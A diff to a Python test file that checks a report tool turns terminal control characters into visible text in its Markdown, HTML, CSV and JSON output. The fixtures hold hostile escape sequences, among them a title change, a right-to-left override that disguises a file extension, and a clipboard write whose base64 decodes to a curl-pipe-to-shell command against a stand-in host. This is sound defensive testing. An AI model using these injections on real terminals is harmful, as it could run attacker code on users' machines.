@@ -21,12 +21,13 @@ TITLE = "\x1b]0;owned-title\x07"
 CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
 CLEAR = "\x1b[2J\x1b[31m"
 C1_CSI = "\x9b1;31m"
+BIDI = "\u202e"  # right-to-left override: "evil\u202efdp.md" reads as "evilmd.pdf"
 HOSTILE_TEXT = (f"§ 1 Grenzwerte bei Quantenstrahlung{TITLE}\n"
                 f"Für Messtechniker der Sternwarte gilt bei Quantenstrahlung ein Grenzwert von 7 Millisievert "
-                f"im Kalenderjahr.{CLIPBOARD} Die Aufsicht prüft jährlich.{CLEAR}{C1_CSI}\n")
+                f"im Kalenderjahr.{CLIPBOARD} Die Aufsicht prüft {BIDI}jährlich.{CLEAR}{C1_CSI}\n")
 HOSTILE_NAME = "Sternwarte\x1b]0;named\x07Merkblatt.txt"
 QUESTION = f"Welcher Grenzwert gilt für Messtechniker der Sternwarte bei Quantenstrahlung?{TITLE}"
-RAW_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
+RAW_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
 
 
 def test_control_characters_become_visible_and_text_stays():
@@ -83,6 +84,11 @@ def test_every_command_shows_document_file_and_question_escapes_inert(hostile_kb
     assert "owned-title␇" in researched.stderr  # the task titles made from the question, made visible
     markdown = (out / "report.md").read_text(encoding="utf-8")
     assert "owned-title␇" in markdown and not RAW_CONTROL.search(markdown)
+    # every file of the report folder is safe to `cat` or `less -R`: the HTML pages, the tables, the JSON
+    written = [path for path in out.iterdir() if path.suffix in (".html", ".csv", ".json")]
+    assert {path.name for path in written} >= {"report.html", "graph.html", "report.json", "tier_primary.csv"}
+    for path in written:
+        assert not RAW_CONTROL.search(path.read_text(encoding="utf-8")), path.name
 
     questions = tmp_path / "questions.txt"
     questions.write_text(QUESTION + "\n", encoding="utf-8")
